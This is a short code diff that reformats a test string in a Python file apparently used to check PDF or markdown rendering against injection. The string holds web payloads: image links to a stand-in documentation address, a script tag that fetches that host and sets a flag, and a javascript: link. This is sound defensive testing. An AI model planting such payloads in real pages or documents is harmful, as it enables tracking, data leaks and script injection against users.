@@ -6,7 +6,8 @@ import pymupdf
 
 FOREIGN = "http://203.0.113.9/leak"  # an address kept for documentation: nothing is there
 TRICKS = (
-    f'![a]({FOREIGN}1.png) <img src="{FOREIGN}2.png"> <script>window.hacked=1;fetch("{FOREIGN}3")</script> [b](javascript:window.hacked=1)'
+    f'![a]({FOREIGN}1.png) <img src="{FOREIGN}2.png"> '
+    f'<script>window.hacked=1;fetch("{FOREIGN}3")</script> [b](javascript:window.hacked=1)'
 )
 FEATURES = ("a green light", "two red flags", "a white flash every four seconds", "a yellow cross")
 
